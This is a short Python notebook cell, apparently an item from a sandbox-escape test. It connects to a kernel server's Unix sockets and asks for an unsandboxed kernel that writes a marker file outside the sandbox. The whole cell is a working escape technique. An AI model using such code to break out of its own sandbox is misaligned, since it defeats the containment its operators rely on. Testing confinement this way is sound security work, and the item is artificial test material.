# Asks the kernel server, by its socket, for a kernel without a sandbox, and runs there what it could not run here.

# %% answer="level"
import glob
import json
import os
import socket
import time

level = None
for path in glob.glob(f"{RUNTIME}/*/*.sock"):
    try:
        with socket.socket(socket.AF_UNIX) as connection:
            connection.settimeout(5)
            connection.connect(path)
            environment = {**os.environ, "HOME": HOME}
            command = f"import pathlib; pathlib.Path({OUTSIDE!r}, {MARK!r}).write_text('out')"
            request = {
                "arguments": ["-f", f"{OUTSIDE}/kernel-{MARK}.json", f"--IPKernelApp.exec_lines={command}"],
                "command": [], "cwd": OUTSIDE, "env": environment, "umask": 0, "limits": {},
            }
            data = json.dumps(request).encode() + b"\n"
            socket.send_fds(connection, [data], [0, 1])
            print(connection.recv(1000))
            time.sleep(1)
    except OSError as error:
        print(error)
